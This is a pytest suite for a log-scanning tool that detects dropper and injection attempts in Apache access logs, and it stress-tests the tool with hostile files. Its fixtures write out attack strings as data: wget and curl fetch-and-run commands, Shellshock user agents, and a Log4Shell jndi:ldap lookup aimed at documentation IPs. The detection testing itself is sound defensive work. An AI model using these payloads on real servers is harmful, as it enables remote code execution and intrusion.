"""Hostile input: nothing crashes, nothing is lost, every line costs a bounded amount of work.

The files are built here, in tmp_path (real gzip, real Apache-formatted lines), and driven
through the command line the way a user runs it. Every case is also run with a process pool
(``--jobs 2``, the pool threshold lowered so small files take that path, ranges split small)
and with ``--full`` (no prefilter); all four runs must agree exactly.
"""

from __future__ import annotations

import gzip
import json
import os
import random
import re
import struct
import subprocess
import sys
import time
import zlib
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import combined_line, diagnostics
from dropscan import engine
from dropscan.cli import app
from dropscan.detect import match
from dropscan.detect.decode import MAX_FIELD
from dropscan.formats.logformat import compile_format
from dropscan.sources import files as sources

COMBINED = compile_format("combined")
NORMAL = combined_line("/index.html")


def line(target: bytes = b"/", ua: bytes = b"Mozilla/5.0", referer: bytes = b"-", status: bytes = b"200") -> bytes:
    """A combined line from already Apache-escaped field bytes (fast for megabyte fields)."""
    return (
        b'203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET '
        + target
        + b' HTTP/1.1" '
        + status
        + b' 512 "'
        + referer
        + b'" "'
        + ua
        + b'"\n'
    )


def _starts(chunk: bytes) -> list[int]:
    return [0] + [m.end() for m in re.finditer(rb"\n(?=.)", chunk, re.S)]


# --- bounded work: regressions for what was unbounded -------------------------------------
def test_prefilter_is_linear_in_marker_matches(fast_scanner):
    # Every byte of the hostile line is a prefilter marker (a backslash). Finding each match's
    # line by searching back to its start was quadratic: minutes for a 2 MB line.
    hostile = line(ua=b"\\\\" * 1_000_000)
    few = combined_line("/?q=" + "%2541" * 2000)  # 2000 marker matches: below the slice limit
    chunk = NORMAL * 50 + hostile + NORMAL * 600 + few + NORMAL * 50
    got = fast_scanner.prefilter(COMBINED).candidates(chunk)  # benchmarks/hostile.py times it
    hostile_at = len(NORMAL) * 50
    few_at = hostile_at + len(hostile) + len(NORMAL) * 600
    # the hostile line (and at most the rest of its slice) is passed; a line with fewer matches
    # than the limit is passed alone; lines in other slices are not
    assert hostile_at in got and few_at in got
    assert [s for s in got if s > hostile_at] == [few_at]
    assert set(got) <= set(_starts(chunk))


def keyword_soup(sigs, size: int = MAX_FIELD - 64) -> str:
    """Every signature keyword with arguments and a URL, repeated: every pattern is tried on
    every view of the field."""
    unit = " ".join(f";{k} -x http://a" for k in sorted(sigs.keyword_index)) + " "
    return (unit * (size // len(unit) + 1))[:size]


def test_a_line_has_a_matching_budget_counted_not_timed(full_scanner, sigs):
    # three fields of keyword soup cost ~8 s of matching; the budget stops it after MATCH_WORK
    # characters of pattern input, wherever the machine is, and the line says so
    soup = keyword_soup(sigs)
    hostile = combined_line("/?" + soup, ua=soup, referer=soup)
    attack = combined_line("/?c=;wget http://203.0.113.9/a")
    r = full_scanner.scan_chunk(hostile + attack, COMBINED, log_file="x")
    assert (r.lines, r.records, r.rejected, r.unscanned) == (2, 2, 0, 1)
    first, second = r.findings
    assert first.line_no == 1 and first.unscanned == ["decode-depth", "match-count", match.MATCH_BUDGET]
    assert first.rule_ids[-1] == "unscanned.match-budget" and first.category != "unscanned"  # hits found so far
    assert (second.line_no, second.rule_ids, second.unscanned) == (2, ["dropper.wget", "rce.shell-command"], [])


def test_a_spent_budget_is_a_finding_of_its_own(full_scanner, monkeypatch):
    attack = combined_line("/?c=;wget http://203.0.113.9/a", ua="() { :; }; /bin/sh -c 'curl http://h/x|sh'")
    monkeypatch.setattr(match, "MATCH_WORK", 0)
    finding, cut = full_scanner.scan_line(attack, COMBINED)
    assert cut and (finding.category, finding.rule_ids, finding.egress) == ("unscanned", ["unscanned.match-budget"], [])
    assert finding.field == "target" and finding.request.startswith("GET /?c=;wget")  # the line, for a look
    r = full_scanner.scan_chunk(attack * 3, COMBINED, log_file="x")
    assert (r.lines, r.records, r.unscanned) == (3, 3, 3)
    assert [f.line_no for f in r.findings] == [1, 2, 3]
    monkeypatch.undo()
    finding, cut = full_scanner.scan_line(attack, COMBINED)
    assert not cut and set(finding.rule_ids) >= {"dropper.wget", "dropper.curl", "shellshock.command"}


# --- the harness: one scan, four ways ------------------------------------------------------
WGET = "/cgi-bin/x?c=;wget http://203.0.113.9/a.sh"
ATTACK = combined_line(WGET)


@dataclass
class Run:
    code: int
    findings: list[dict]
    files: list[dict]
    errors: list[str]
    stderr: str

    @property
    def hits(self) -> list[tuple[str, int, str]]:
        """(file name, line number, primary rule) of every finding, in output order."""
        return [(os.path.basename(f["log_file"]), f["line_no"], f["rule_ids"][0]) for f in self.findings]

    def counts(self, name: str) -> tuple[int, int, int]:
        (f,) = [f for f in self.files if os.path.basename(f["path"]) == name]
        return f["lines"], f["records"], f["rejected"]

    def error(self, name: str) -> str | None:
        (f,) = [f for f in self.files if os.path.basename(f["path"]) == name]
        return f["error"]


MODES = {
    "inline": ["--jobs", "1"],
    "full": ["--jobs", "1", "--full"],
    "pool": ["--jobs", "2"],
    "pool-full": ["--jobs", "2", "--full"],
}


def scan(runner, tmp_path, paths, *extra: str) -> Run:
    """``dropscan scan PATHS -f jsonl --summary S`` in-process, as a user runs it."""
    summary = tmp_path / f"summary-{time.perf_counter_ns()}.json"
    r = runner.invoke(
        app, ["scan", *map(str, paths), "-f", "jsonl", "--summary", str(summary), *extra], catch_exceptions=False
    )
    s = json.loads(summary.read_text()) if summary.exists() else {"files": [], "errors": []}
    for f in s["files"]:
        assert f["lines"] == f["records"] + f["rejected"], f  # every line accounted for
    findings = [json.loads(x) for x in r.stdout.splitlines()]
    return Run(r.exit_code, findings, s["files"], s["errors"], r.stderr)


@pytest.fixture()
def scan4(runner, tmp_path, monkeypatch):
    """Scan inline, with --full, with a process pool, and pool + --full; all four must agree.
    The pool threshold is lowered so that small files take the pool path, and plain files are
    split into five byte ranges so that lines meet range boundaries."""
    monkeypatch.setattr(engine, "POOL_MIN_BYTES", 0)
    monkeypatch.setattr(engine, "split_ranges", lambda size, *_: sources.split_ranges(size, 5, min_part=1))

    def run(*paths, extra: tuple[str, ...] = ()) -> Run:
        runs = {name: scan(runner, tmp_path, paths, *flags, *extra) for name, flags in MODES.items()}
        want = _comparable(runs["inline"])
        for name, other in runs.items():
            assert _comparable(other) == want, name
        return runs["inline"]

    return run


def _comparable(r: Run) -> tuple:
    """What every way of scanning must agree on: everything (no count depends on time)."""
    return r.code, r.findings, r.files, r.errors


def write(path, data: bytes):
    path.write_bytes(data)
    return path


# --- line endings and bytes ------------------------------------------------------------------
def test_crlf_line_endings(scan4, tmp_path):
    p = write(tmp_path / "access.log", (NORMAL + ATTACK + NORMAL).replace(b"\n", b"\r\n"))
    r = scan4(p)
    assert (r.code, r.counts("access.log"), r.hits) == (1, (3, 3, 0), [("access.log", 2, "dropper.wget")])
    f = r.findings[0]
    assert f["offset"] == len(NORMAL) + 1 and f["user_agent"] == "Mozilla/5.0"  # no stray \r
    assert f["egress"][0]["url"] == "http://203.0.113.9/a.sh"


def test_missing_final_newline(scan4, tmp_path):
    p = write(tmp_path / "access.log", NORMAL + ATTACK.rstrip(b"\n"))
    r = scan4(p)
    assert (r.code, r.counts("access.log"), r.hits) == (1, (2, 2, 0), [("access.log", 2, "dropper.wget")])


def test_nul_bytes_inside_lines(scan4, tmp_path):
    lines = [
        ATTACK.replace(b";wget", b";w\x00get"),  # a raw NUL inside the command: removed by the url view
        NORMAL.replace(b"Mozilla", b"Moz\x00illa"),  # a NUL in a quoted field: still a record
        NORMAL.replace(b"[27/Nov", b"[27\x00/Nov"),  # in the time: a record without a time
        b"\x00" * 300 + b"\n",  # only NULs: not a record
        ATTACK,
    ]
    r = scan4(write(tmp_path / "access.log", b"".join(lines)))
    assert r.counts("access.log") == (5, 4, 1)
    assert (r.code, r.hits) == (1, [("access.log", 1, "dropper.wget"), ("access.log", 5, "dropper.wget")])


def test_invalid_utf8(scan4, tmp_path):
    bad = ATTACK.replace(b"/cgi-bin/x", b"/\xff\xfe\xc3").replace(b"Mozilla/5.0", b"\xe2\x82 \xed\xa0\x80")
    r = scan4(write(tmp_path / "access.log", NORMAL + bad + b"\xff\xff\xff\n"))
    assert (r.code, r.counts("access.log"), r.hits) == (1, (3, 2, 1), [("access.log", 2, "dropper.wget")])
    f = r.findings[0]
    assert f["request"].startswith("GET /\\xff\\xfe\\xc3?c=;wget") and f["user_agent"] == "\\xe2\\x82 \\xed\\xa0\\x80"


def test_lines_with_a_lone_cr_are_one_line(scan4, tmp_path):
    # lines end at \n only (like Apache and wc -l); a file of CR-terminated lines is one line,
    # not a record: no known format, an error when named; with --log-format it is read as one
    # raw line
    p = write(tmp_path / "access.log", (NORMAL + ATTACK + NORMAL).replace(b"\n", b"\r"))
    r = scan4(p)
    assert (r.code, r.counts("access.log"), r.hits) == (2, (0, 0, 0), [])
    assert r.error("access.log").endswith("no known log format matches its first lines (use --log-format)")
    r = scan4(p, extra=("--log-format", "combined"))
    assert (r.code, r.counts("access.log"), r.hits) == (2, (1, 0, 1), [("access.log", 1, "dropper.wget")])
    assert r.findings[0]["field"] == "line" and "no line matches the log format" in r.error("access.log")


def test_a_file_of_only_newlines(scan4, tmp_path):
    r = scan4(write(tmp_path / "access.log", b"\n" * 1000))
    assert (r.code, r.counts("access.log"), r.hits) == (2, (0, 0, 0), [])
    assert "no known log format" in r.error("access.log")


def test_empty_file_and_empty_gz(scan4, tmp_path):
    # no bytes, no lines: nothing to report and nothing wrong (compression is judged by
    # magic bytes, and an empty file has none)
    a = write(tmp_path / "access.log", b"")
    b = write(tmp_path / "access.log.1.gz", b"")
    r = scan4(b, a)
    assert (r.code, r.counts("access.log"), r.counts("access.log.1.gz"), r.errors) == (0, (0, 0, 0), (0, 0, 0), [])


# --- files that are not logs at all -----------------------------------------------------------
def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(b"".join(b"\x00" + bytes(range(48)) for _ in range(16)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def test_files_that_are_not_logs(scan4, tmp_path):
    rnd = random.Random(7)
    binary = write(tmp_path / "binary.log", bytes(rnd.randrange(256) for _ in range(200_000)))
    png = write(tmp_path / "image.log", _png())
    text = write(tmp_path / "notes.log", b"Dear diary,\nthe wget manual says:\n; wget http://203.0.113.9/x\n")
    r = scan4(binary, png, text)
    # named but not a log: an error, and never scanned as raw text (nothing is acted on from it)
    for name in ("binary.log", "image.log", "notes.log"):
        assert r.counts(name) == (0, 0, 0)
    assert (r.code, r.hits) == (2, [])
    for name in ("binary.log", "image.log", "notes.log"):
        assert r.error(name) == f"{tmp_path / name}: no known log format matches its first lines (use --log-format)"
    assert diagnostics(r.stderr) == [f"dropscan: error: {e}" for e in r.errors]


def test_mixed_garbage_and_valid_lines(scan4, tmp_path):
    lines = [
        NORMAL,
        b"garbage\n",
        ATTACK,
        b"\x16\x03\x01\x02\x00\n",
        b"GET /?c=;curl http://198.51.100.4/x|sh\n",
        NORMAL,
    ]
    r = scan4(write(tmp_path / "access.log", b"".join(lines * 30)))
    assert r.counts("access.log") == (180, 90, 90)
    assert r.hits == [
        h
        for i in range(30)
        for h in [("access.log", 6 * i + 3, "dropper.wget"), ("access.log", 6 * i + 5, "dropper.curl")]
    ]
    assert [f["field"] for f in r.findings[:2]] == ["target", "line"]
    assert r.code == 1 and r.errors == []


# --- bounded work per line, the rest of the file kept ---------------------------------------
def test_a_5_mb_line(scan4, tmp_path):
    huge = line(target=b"/" + b"A" * 5_000_000, ua=rb"() { :; }; /bin/bash -c \"wget http://198.51.100.7/a.sh\"")
    r = scan4(write(tmp_path / "access.log", NORMAL + huge + ATTACK))
    assert (r.code, r.counts("access.log")) == (1, (3, 3, 0))
    assert r.hits == [("access.log", 2, "dropper.wget"), ("access.log", 3, "dropper.wget")]
    assert r.findings[0]["field"] == "user_agent" and len(r.findings[0]["request"]) == 5_000_014


def test_a_percent_25_chain_200k_long(scan4, tmp_path):
    wide = combined_line("/?q=" + "%25" * 200_000 + "3Bwget%20http://198.51.100.7/x")  # 200k layers side by side
    deep = combined_line("/?q=%" + "25" * 200_000 + "3B")  # one escape nested 200k deep: 8 rounds undone
    r = scan4(write(tmp_path / "access.log", wide + deep + ATTACK))
    assert (r.code, r.counts("access.log"), r.files[0]["unscanned"]) == (1, (3, 3, 0), 2)
    # both are longer than MAX_FIELD: cut, and said so
    assert r.hits == [
        ("access.log", 1, "unscanned.field-cut"),
        ("access.log", 2, "unscanned.field-cut"),
        ("access.log", 3, "dropper.wget"),
    ]
    shallow = combined_line("/?q=%" + "25" * 9 + "3B")  # nine layers: one more than MAX_ROUNDS undoes
    r = scan4(write(tmp_path / "access.log", shallow))
    assert [(f["category"], f["rule_ids"]) for f in r.findings] == [("unscanned", ["unscanned.decode-depth"])]


def test_lookups_nested_50k_deep(scan4, tmp_path):
    nested = "${" * 50_000 + "jndi:ldap://198.51.100.9:1389/a" + "}" * 50_000
    unclosed = "${" * 50_000 + "lower:j}"
    r = scan4(write(tmp_path / "access.log", combined_line("/", ua=nested) + combined_line(unclosed) + ATTACK))
    assert (r.code, r.counts("access.log"), r.files[0]["unscanned"]) == (1, (3, 3, 0), 2)
    # lookups deeper than MAX_LOOKUP_DEPTH stay literal: the jndi inside is still found, and the
    # depth bound is said on both lines
    assert r.hits == [
        ("access.log", 1, "jndi.log4shell"),
        ("access.log", 2, "unscanned.decode-depth"),
        ("access.log", 3, "dropper.wget"),
    ]
    assert r.findings[0]["rule_ids"][-1] == "unscanned.decode-depth"
    assert [(d["host"], d["port"]) for d in r.findings[0]["egress"]] == [("198.51.100.9", 1389)]


def test_inputs_built_to_make_signatures_backtrack(scan4, tmp_path):
    built = [
        combined_line("/?c=;wget " + "-x " * 80_000),  # a download tool, arguments, never a remote
        combined_line("/?c=" + ";wget " * 40_000),  # many separators, each a place to start
        combined_line("/?c=;wget http://" + "a." * 120_000),  # a hostname that never ends
        combined_line("/", ua="<?php " * 40_000),  # a lazy .{0,400} from each of 40k starts: ~1.5 s
    ]
    # no clock: every line's result is exact, the same in all four ways of scanning
    r = scan4(write(tmp_path / "access.log", b"".join(built) + ATTACK))
    assert (r.code, r.counts("access.log")) == (1, (5, 5, 0))
    assert r.hits == [
        ("access.log", 1, "rce.shell-command"),
        ("access.log", 3, "dropper.wget"),
        ("access.log", 5, "dropper.wget"),
    ]
    assert [f["egress"] for f in r.findings if f["line_no"] == 3] == [[]]  # no host that long
    assert r.files[0]["unscanned"] == 0  # no bound reached


def test_a_line_that_spends_its_budget(scan4, tmp_path, sigs):
    soup = keyword_soup(sigs)
    r = scan4(write(tmp_path / "access.log", combined_line("/?" + soup, ua=soup) + ATTACK))
    assert (r.code, r.counts("access.log"), r.hits[-1]) == (1, (2, 2, 0), ("access.log", 2, "dropper.wget"))
    assert r.files[0]["unscanned"] == 1 and "unscanned.match-budget" in r.findings[0]["rule_ids"]
    assert "access.log:1: not scanned to the end (decode-depth, match-count, match-budget)" in r.stderr


def test_extremely_long_fields(scan4, tmp_path):
    pad = "x" * (MAX_FIELD + 1000)
    lines = [
        combined_line("/", referer=pad, ua="() { :; }; /bin/sh -c 'wget http://198.51.100.7/s'"),
        combined_line("/?c=;wget http://198.51.100.8/x&pad=" + pad),  # the attack inside the first 256 KiB
        combined_line("/?pad=" + pad + "&c=;wget http://198.51.100.9/x"),  # after it: not seen, but said
        ATTACK,
    ]
    r = scan4(write(tmp_path / "access.log", b"".join(lines)))
    assert (r.code, r.counts("access.log"), r.files[0]["unscanned"]) == (1, (4, 4, 0), 3)
    assert [(h[1], h[2]) for h in r.hits] == [
        (1, "dropper.wget"),
        (2, "dropper.wget"),
        (3, "unscanned.field-cut"),
        (4, "dropper.wget"),
    ]
    assert [f["category"] for f in r.findings] == ["dropper", "dropper", "unscanned", "dropper"]
    assert [f["rule_ids"][-1] for f in r.findings[:3]] == ["unscanned.field-cut"] * 3
    assert [[d["host"] for d in f["egress"]] for f in r.findings] == [
        ["198.51.100.7"],
        ["198.51.100.8"],
        [],
        ["203.0.113.9"],
    ]
    assert r.stderr.count("not scanned to the end (field-cut)") == 3


def test_a_line_longer_than_max_line_is_cut_not_lost(scan4, tmp_path, monkeypatch):
    monkeypatch.setattr(sources, "MAX_LINE", 64 << 10)
    huge = combined_line("/?c=;wget http://198.51.100.7/x&pad=" + "A" * (200 << 10))
    r = scan4(write(tmp_path / "access.log", NORMAL + huge + ATTACK))
    # its first 64 KiB are scanned as a raw line (the closing fields are cut off), the rest is
    # skipped, and the lines after it keep their numbers and offsets
    assert (r.code, r.counts("access.log")) == (1, (3, 2, 1))
    assert r.hits == [("access.log", 2, "dropper.wget"), ("access.log", 3, "dropper.wget")]
    assert r.findings[0]["field"] == "line" and r.findings[1]["offset"] == len(NORMAL) + len(huge)


def test_a_gzip_bomb_costs_time_not_memory(scan4, tmp_path):
    bomb = write(tmp_path / "access.log.1.gz", gzip.compress(bytes(40 << 20), 9))  # 40 MiB of NULs, one line
    r = scan4(bomb, write(tmp_path / "access.log", ATTACK))
    assert (r.code, r.counts("access.log.1.gz"), r.hits) == (2, (0, 0, 0), [("access.log", 1, "dropper.wget")])
    assert "no known log format" in r.error("access.log.1.gz")


# --- corrupt and unreadable input ---------------------------------------------------------------
def _member_header() -> bytes:
    return gzip.compress(b"")[:10]


def test_a_truncated_gz(scan4, tmp_path):
    # a whole first member, then a second cut off after its header: the readable part is exact
    p = write(tmp_path / "access.log.1.gz", gzip.compress(NORMAL + ATTACK) + _member_header())
    r = scan4(p, write(tmp_path / "access.log", ATTACK))
    assert r.code == 2
    assert r.counts("access.log.1.gz") == (2, 2, 0)
    assert r.hits == [("access.log.1.gz", 2, "dropper.wget"), ("access.log", 1, "dropper.wget")]
    assert r.errors == [f"{p}: truncated gzip data (unexpected end of file)"]
    assert diagnostics(r.stderr) == [f"dropscan: error: {p}: truncated gzip data (unexpected end of file)"]


def test_a_gz_cut_in_the_middle(scan4, tmp_path):
    data = b"".join(ATTACK if i % 50 == 7 else NORMAL for i in range(5000))
    whole = gzip.compress(data)
    p = write(tmp_path / "access.log.1.gz", whole[: len(whole) // 2])
    readable = zlib.decompressobj(31).decompress(p.read_bytes())  # an independent decoder's view
    r = scan4(p)
    full_lines = readable.count(b"\n")
    partial = 0 if readable.endswith(b"\n") else 1
    assert r.counts("access.log.1.gz") == (full_lines + partial, full_lines, partial)
    assert [h[1] for h in r.hits] == [i + 1 for i in range(full_lines) if i % 50 == 7]
    assert (r.code, r.errors) == (2, [f"{p}: truncated gzip data (unexpected end of file)"])


def test_a_corrupt_gz(scan4, tmp_path):
    # a whole first member, then one whose first deflate block has the invalid type 11
    invalid_block = _member_header() + b"\x07" + b"\x00" * 64
    bad = write(tmp_path / "access.log.2.gz", gzip.compress(ATTACK + NORMAL) + invalid_block)
    # every byte readable, then a wrong checksum: the step that reads the checksum fails, so
    # the output of its 1 KiB of compressed input is lost (a documented limit)
    lines = [ATTACK] + [combined_line(f"/page/{i}?id={i * 7919 % 10007}") for i in range(3000)]
    whole = bytearray(gzip.compress(b"".join(lines)))
    whole[-8] ^= 0xFF
    crc = write(tmp_path / "access.log.1.gz", bytes(whole))
    r = scan4(bad, crc)
    assert r.code == 2
    assert r.counts("access.log.2.gz") == (2, 2, 0)
    n, records, rejected = r.counts("access.log.1.gz")
    assert len(lines) - 60 <= n <= len(lines) and records >= n - 1 and rejected <= 1
    assert r.hits == [("access.log.2.gz", 1, "dropper.wget"), ("access.log.1.gz", 1, "dropper.wget")]
    assert [e.split(": corrupt gzip data: ")[0] for e in r.errors] == [str(bad), str(crc)]
    assert len(diagnostics(r.stderr)) == 2  # one line each


def test_one_unreadable_file_does_not_stop_the_others(scan4, tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    write(logs / "access.log", NORMAL + ATTACK)
    os.symlink(logs / "rotated-away", logs / "access.log.1")  # dangling
    os.mkfifo(logs / "access.log.2")  # no writer: opening it would block; a walk skips it
    r = scan4(logs, tmp_path / "gone.log")
    assert (r.code, r.hits) == (2, [("access.log", 2, "dropper.wget")])
    assert r.errors == [
        f"{tmp_path / 'gone.log'}: no such file or directory",
        f"{logs / 'access.log.1'}: cannot open: No such file or directory",
    ]


def test_a_walk_skips_what_is_not_a_log_in_every_mode(scan4, tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    write(logs / "access.log", NORMAL + ATTACK)
    write(logs / "notes.log", b"Dear diary,\n; wget http://203.0.113.9/x\n" * 1000)
    r = scan4(logs)  # inline, --full, pool, pool --full agree
    assert (r.code, r.hits, r.errors) == (1, [("access.log", 2, "dropper.wget")], [])
    (notes,) = [f for f in r.files if f["path"].endswith("notes.log")]
    assert (notes["status"], notes["skipped"], notes["lines"]) == ("skipped", "not a recognised access log", 0)


def test_a_directory_with_no_logs_says_so(scan4, tmp_path):
    (tmp_path / "empty").mkdir()
    write(tmp_path / "empty" / "README", b"nothing here\n")
    r = scan4(tmp_path / "empty")
    assert (r.code, r.files, r.findings) == (2, [], [])
    assert r.stderr == f"dropscan: error: {tmp_path / 'empty'}: no access-log files in this directory\n"


def test_a_hostile_directory_through_the_console_entry(tmp_path):
    # a real process, so exit status and stderr are what a cron job sees
    logs = tmp_path / "logs"
    logs.mkdir()
    write(logs / "access.log.3.gz", gzip.compress(ATTACK + NORMAL) + _member_header())  # truncated
    write(logs / "access.log.2", _png())
    write(logs / "access.log.1", b"\x00" * 100 + b"\n" + ATTACK)
    write(logs / "access.log", (NORMAL + ATTACK).replace(b"\n", b"\r\n"))
    os.mkfifo(logs / "access.log.4")
    exe = Path(sys.executable).with_name("dropscan")
    cmd = [str(exe)] if exe.exists() else [sys.executable, "-c", "from dropscan.cli import main; main()"]
    p = subprocess.run([*cmd, "scan", str(logs), "-f", "jsonl"], capture_output=True, text=True, timeout=120)
    assert p.returncode == 2 and "Traceback" not in p.stderr
    # found by the walk and not a log: skipped (listed in the summary), not an error
    assert diagnostics(p.stderr) == [
        f"dropscan: error: {logs / 'access.log.3.gz'}: truncated gzip data (unexpected end of file)",
    ]
    hits = [(os.path.basename(x["log_file"]), x["line_no"]) for x in map(json.loads, p.stdout.splitlines())]
    assert hits == [("access.log.3.gz", 1), ("access.log.1", 2), ("access.log", 2)]


# --- a bound reached is said everywhere a finding goes --------------------------------------
def test_unscanned_lines_in_explain_frames_and_on_stderr(tmp_path, runner, full_scanner):
    from dropscan.detect.explain import explain_line, explain_text
    from dropscan.outputs.frames import to_frame

    cut = line(target=b"/?pad=" + b"x" * MAX_FIELD + b"&c=;wget%20http://198.51.100.9/x")
    e = explain_line(cut, full_scanner, COMBINED)
    assert e["unscanned"] == ["field-cut"] and e["finding"]["category"] == "unscanned"
    assert "unscanned: a bound stopped this line short (field-cut)" in explain_text(e)
    finding, _ = full_scanner.scan_line(cut, COMBINED)
    df = to_frame([finding, full_scanner.scan_line(ATTACK, COMBINED)[0]], full_scanner.sigs)
    assert list(df["rule_id"]) == ["unscanned.field-cut", "dropper.wget"]  # a category, not NaN
    assert list(df["category"]) == ["unscanned", "dropper"]
    # 25 such lines: the first 20 named on stderr, then one line; the summary counts all 25
    log = write(tmp_path / "access.log", cut * 25)
    summary = tmp_path / "s.json"
    r = runner.invoke(app, ["scan", str(log), "-f", "jsonl", "--summary", str(summary)])
    assert r.exit_code == 1 and len(r.stdout.splitlines()) == 25
    named = [ln for ln in r.stderr.splitlines() if "not scanned to the end (field-cut)" in ln]
    assert len(named) == 20 and named[0].endswith(
        f"{log}:1: not scanned to the end (field-cut): an 'unscanned' finding"
    )
    assert r.stderr.count("more lines were not scanned to the end") == 1
    assert json.loads(summary.read_text())["totals"]["unscanned"] == 25
